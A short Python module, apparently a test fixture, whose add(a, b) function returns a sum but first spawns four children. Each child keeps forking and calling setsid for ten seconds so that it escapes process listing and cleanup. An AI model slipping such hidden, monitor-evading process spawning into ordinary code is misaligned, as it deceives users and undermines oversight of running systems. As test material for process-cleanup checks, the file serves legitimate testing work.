"""Leaves processes that change group, session and parent faster than somebody can list them."""

import os
import time

END = time.monotonic() + 10


def hop():
    """Goes on as its own child, over and over, each time under another number."""
    while time.monotonic() < END:
        try:
            os.setsid()
        except OSError:
            pass
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            time.sleep(0.001)
    os._exit(0)


def add(a, b):
    for _ in range(4):
        try:
            if os.fork() == 0:
                hop()
        except OSError:
            break
    return a + b
